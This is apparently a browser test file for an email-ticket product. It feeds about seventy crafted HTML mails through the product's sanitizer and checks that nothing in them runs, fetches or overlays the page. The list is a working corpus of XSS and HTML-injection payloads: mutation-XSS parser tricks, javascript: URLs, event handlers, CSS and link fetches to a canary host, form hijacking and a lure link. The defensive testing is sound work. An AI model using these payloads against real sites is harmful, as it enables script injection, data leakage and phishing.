import { beforeAll, expect, test } from 'vitest'
import { aBrowser } from '../support/browser.ts'
import { aCanary } from '../support/canary.ts'
import { aMail, handIn } from '../support/post.ts'
import { aWeb, type Web } from '../support/web.ts'
import { aHouse, aWorld, type World } from '../support/world.ts'

const house = await aHouse()
let world: World
let web: Web
const { visit, troubles } = aBrowser(() => ({ house, web }))
const now = Temporal.Now.instant()

const { url: elsewhere, heard, settle } = await aCanary()

beforeAll(async () => {
  world = await aWorld(house, now)
  web = await aWeb(house, { FILES_URL: house.filesUrl })
})

const run = 'top.ran = 1'
const fails = `<img src=x: onerror="${run}">`

/**
 * Letters that each need a document of their own, because what they leave open would swallow whatever came after it, or
 * would change what it is read as. `%` is where they would fetch from.
 */
// prettier-ignore
const letters: [id: string, html: string][] = [
  // What is read once and again is read as something else.
  ['H02', `<svg><style><img title="</style>${fails}"></svg>`],
  ['H02', `<math><annotation-xml encoding="text/html"><style><a title="</style>${fails}"></annotation-xml></math>`],
  ['H02', `<svg><desc><noscript><a title="</noscript>${fails}"></desc></svg>`],
  ['H02', `<svg><foreignObject><xmp><a title="</xmp>${fails}"></foreignObject></svg>`],
  ['H02', `<math><mi><mglyph><textarea><a title="</textarea>${fails}"></mi></math>`],
  ['H02', `<template><style></template>${fails}</style>`],
  ['H02', `<template shadowrootmode=open><slot></slot>${fails}<style>@import "%/shadow"</style></template>`],
  ['H02', `<noembed><a title="</noembed>${fails}"></noembed>`],
  ['H02', `<noframes><a title="</noframes>${fails}"></noframes>`],
  ['H02', `<iframe><a title="</iframe>${fails}"></iframe>`],
  ['H02', `<xmp><p title="</xmp>${fails}"></xmp>`],
  ['H02', `<plaintext></plaintext>${fails}`],
  ['H02', `<listing>&lt;img src=x: onerror=top.ran=1&gt;</listing>`],
  ['H02', `<select><template><style></template></select>${fails}</style></select>`],
  ['H02', `<select><option><style></option></select>${fails}</style>`],
  ['H02', `<table><tr><td><svg><desc><table><tr><td>${fails}</table></desc></svg></table>`],
  ['H02', `<table><style><a title="</style>${fails}"></table>`],
  ['H02', `<form id=a><div></form><form id=b>${fails}`],
  ['H02', `<a href="&#x6a;avascript&colon;${run}">x</a><a href="javas&Tab;cript:${run}">x</a>`],
  ['H02', `<!--[if gte mso 9]>${fails}<![endif]-->${fails}<!-- --!>${fails}`],
  ['H02', `<![CDATA[>${fails}]]>`],
  ['H02', `<?xml version="1.0"?><?php echo ">${fails}" ?>`],
  ['H02', `<svg><![CDATA[><img src=x: onerror="${run}">]]></svg>`],
  ['H02', `<p title="\u0000\u0000>${fails}">x</p><\u0000img src=x: onerror=top.ran=1>`],
  ['H02', `<img/src="x:"/onerror=top.ran=1//><img src=x:\u000Conerror=top.ran=1>`],
  ['H02', `<image src=x: onerror=top.ran=1><isindex onfocus=top.ran=1 autofocus>`],
  ['H02', `<title>${fails}</title><textarea autofocus onfocus=top.ran=1>`],
  ['H02', `${'<div>'.repeat(600)}<style><a title="</style>${fails}">`],
  ['H02', `${'<table><td>'.repeat(300)}${fails}`],
  [
    'H01',
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:top.ran=1><rect width=99 height=99 /></a></svg>#x" /></svg>`,
  ],
  ['H01', `<svg><set attributeName=href to="javascript:top.ran=1" /><a id=q><text y=9>x</text></a></svg>`],
  ['H01', `<svg><script href="%/svg-script" /></svg><svg><script>top.ran=1</script></svg>`],
  [
    'H01',
    `<math href="javascript:top.ran=1"><mtext>x</mtext></math><math><maction actiontype="statusline#http://x" xlink:href="javascript:top.ran=1">x</maction></math>`,
  ],
  [
    'H01',
    `<object data="data:text/html,<script>top.ran=1</script>"></object><embed src="data:text/html,<script>parent.ran=1</script>">`,
  ],
  ['H01', `<iframe src="data:text/html,<img src=%/data-frame>"></iframe><iframe src="blob:%/blob"></iframe>`],
  ['H01', `<p style="animation:a 1s" onanimationstart="${run}">x</p><style>@keyframes a{}</style>`],
  ['H01', `<video autoplay onloadstart="${run}"><source onerror="${run}"></video><audio src=x: onerror="${run}">`],
  ['H01', `<dialog open onclose="${run}">x</dialog><div popover onbeforetoggle="${run}">x</div>`],
  ['H01', `<p contenteditable autofocus onfocus="${run}">x</p><marquee onstart="${run}">x</marquee>`],
  // What only fetches.
  ['H03', `<p style="background:\\75\\72\\6c(%/hex)">x</p><p style="background:UR\\4c (%/upper)">x</p>`],
  [
    'H03',
    `<p style="background:url(&#x25;/nothing),/**/url(%/comment)">x</p><p style="background:u/**/rl(%/split)">x</p>`,
  ],
  ['H03', `<p style='background:image-set("%/set" 1x);background:-webkit-image-set(url(%/webkit-set) 1x)'>x</p>`],
  [
    'H03',
    `<p style="background:cross-fade(url(%/fade),url(%/fade2),50%)">x</p><p style="mask:url(%/mask);clip-path:url(%/clip#a)">x</p>`,
  ],
  ['H03', `<p style="filter:url(%/filter#a);shape-outside:url(%/shape);content:url(%/own)">x</p>`],
  ['H03', `<p style="--a:url(%/variable)"><b style="background-image:var(--a)">x</b></p>`],
  ['H03', `<style>@import url(%/import);@import '%/import2' layer(a);@namespace url(%/space);</style>`],
  [
    'H03',
    `<style>@font-face{font-family:f;src:local(x),url(%/font)format("woff2")}main,p{font-family:f}</style><p>x</p>`,
  ],
  [
    'H03',
    `<style>a[href^="/"]{background:url(%/leak)}@supports(display:grid){p{background:url(%/supports)}}</style><a href="/x">x</a><p>x</p>`,
  ],
  ['H03', `<style>/*</style><style>*/p{background:url(%/unclosed)}</style><p>x</p>`],
  [
    'H03',
    `<link rel=preload as=style href=%/preload-style><link rel=modulepreload href=%/module><link rel=prerender href=%/prerender>`,
  ],
  [
    'H03',
    `<link rel=preconnect href=%/><link rel=dns-prefetch href=//a.b.c.invalid><link rel=manifest href=%/manifest><link rel="apple-touch-icon" href=%/touch>`,
  ],
  ['H03', `<script type=speculationrules>{"prerender":[{"source":"list","urls":["%/speculation"]}]}</script>`],
  ['H03', `<img srcset="%/one 1x, %/two 2x" sizes=1px><picture><source media=all srcset=%/picture><img></picture>`],
  [
    'H03',
    `<img src="cid:nobody@vale.example" srcset="%/beside-cid"><img src="cid:%/cid-path"><img src="//127.0.0.1:1/relative">`,
  ],
  [
    'H03',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='%/in-data'/></svg>"><img src="data:text/html;base64,PGI+">`,
  ],
  ['H03', `<img src="\thttp:/\\127.0.0.1:1/slashes"><img lowsrc=%/low dynsrc=%/dyn longdesc=%/long usemap=%/map>`],
  [
    'H03',
    `<body background=%/body style="background:url(%/body-style)"><table background=%/table><td background=%/td>x</table>`,
  ],
  [
    'H03',
    `<svg><image href=%/svg xlink:href=%/xlink /><use href=%/use#a /><pattern id=a><image href=%/pattern /></pattern></svg>`,
  ],
  [
    'H03',
    `<svg><style>@import "%/svg-import";*{fill:url(%/fill#a);cursor:url(%/cursor),auto}</style><rect width=9 height=9 /></svg>`,
  ],
  [
    'H03',
    `<object type=image/png data=%/object><param name=movie value=%/param></object><applet code=%/applet archive=%/archive>`,
  ],
  ['H03', `<input type=image src=%/image><input list=l><button formaction=%/formaction>x</button><keygen>`],
  ['H03', `<track src=%/track><source src=%/source><bgsound src=%/sound><frameset><frame src=%/frame></frameset>`],
  // What leaves, sends or covers.
  ['H03', `<base href="%/"><base target=_top><img src=based><a href=x>x</a>`],
  [
    'H03',
    `<meta http-equiv=refresh content="0;url=%/refresh"><meta http-equiv=Content-Security-Policy content="default-src *"><meta http-equiv=set-cookie content="a=b">`,
  ],
  [
    'H04',
    `<form action=%/sent id=f><input name=p></form><button form=f>Sign in</button><a href="#" ping=%/ping target=_top>x</a>`,
  ],
  [
    'H04',
    `<style>html,body,main{position:fixed!important;inset:0;z-index:2147483647}main{transform:scale(99)}</style><p>x</p>`,
  ],
  ['H04', `<div style="position:sticky;top:-9999px;width:99999px;height:99999px;background:red">x</div>`],
  [
    'H04',
    `<div style="p\\osition:fixed;inset:0">x</div><div style="position:/**/fixed;top:0">x</div><div style="&#112;osition:fixed">x</div>`,
  ],
  ['H04', `${'<div style="padding:999px">'.repeat(60)}x`],
  [
    'H04',
    `<style>:root{color-scheme:dark;--accent:red}main a[title]::after{content:none!important}.bar{display:none}</style><a class=lure href="https://evil.example">x</a>`,
  ],
  [
    'H04',
    `<p style="color:#fff;background:#fff">hidden on white</p><p style="color:transparent;font-size:0;opacity:0">unseen</p><font color=white>white</font>`,
  ],
]

const written = (html: string) =>
  `<p class=real>Real words.</p>\n<table><tr><td>1<td>2</table>${html.replaceAll('%/', `${elsewhere}/`)}`

test('shown as they came, most of them run or ask for something at once; so what follows proves something', async () => {
  const loud: string[] = []
  for (const [, html] of letters) {
    // A page of its own: one that is led away goes when it likes, and would take the next letter along.
    const page = await visit(null)
    let asked = 0
    page.on('request', (request) => {
      if (request.url().startsWith(elsewhere)) asked += 1
    })
    // Loaded, every picture of it has come or failed. One that leads its page away has asked for another.
    await page.setContent(written(html)).catch(() => {})
    const ran = await page.evaluate(() => Reflect.get(window, 'ran')).catch(() => undefined)
    if (ran !== undefined || asked > 0) loud.push(html)
    await page.context().close()
  }
  expect(loud.length).toBeGreaterThan(25)
  // They were meant to make their page complain.
  troubles.length = 0
})

test('H01–H04: each in a frame of its own, nothing of any letter runs, fetches, covers or asks', async () => {
  const headers = ['Content-Type: text/html; charset=utf-8']
  const ids: string[] = []
  const by = { from: 'joana@vale.example', headers }
  for (const [at, [, html]] of letters.entries()) {
    const answers = at === 0 ? {} : { answers: 'letter-0@vale.example' }
    const mail = aMail({ ...by, body: written(html), id: `letter-${at}@vale.example`, ...answers })
    const line = await handIn(house, mail, {}, now.subtract({ hours: letters.length - at }))
    expect(line).toMatchObject({ fate: at === 0 ? 'ticket' : 'reply' })
    ids.push(line.threadMessageId ?? '')
  }
  const page = await visit(world.joana)
  await page.goto('/tickets')
  heard.length = 0
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  for (const [at, id] of ids.entries()) {
    // The frame as a thread shows it, around the document that the product sends.
    await page.evaluate(async (src) => {
      document.querySelector('#shown')?.remove()
      const frame = document.createElement('iframe')
      Object.assign(frame, { id: 'shown', src, referrerPolicy: 'no-referrer' })
      frame.setAttribute('sandbox', 'allow-same-origin allow-popups allow-popups-to-escape-sandbox')
      const loaded = new Promise((done) => frame.addEventListener('load', done))
      document.body.append(frame)
      await loaded
    }, `/messages/${id}`)
    const letter = page.frameLocator('#shown').locator('main')
    const what = letters[at]?.[1].slice(0, 200)
    expect(await letter.count(), what).toBe(1)
    const active =
      'script, style, svg, math, iframe, object, embed, form, input, button, video, audio, link, meta, base, template, [ping], [background], [srcset], [style*="url"], [style*="position"], [style*="fixed"]'
    expect(await letter.locator(active).count(), what).toBe(0)
    const handlers = await letter.evaluate((main) =>
      [...main.querySelectorAll('*')].flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith('on'))),
    )
    expect(handlers, what).toEqual([])
    expect(await page.evaluate(() => Reflect.get(window, 'ran')), what).toBeUndefined()
  }
  await settle(page)
  expect(heard).toEqual([])
  expect(asked.filter((url) => !url.startsWith(new URL(page.url()).origin) && !url.startsWith('data:image/'))).toEqual(
    [],
  )
  expect(page.url()).toContain('/tickets')
  expect(troubles).toEqual([])
})
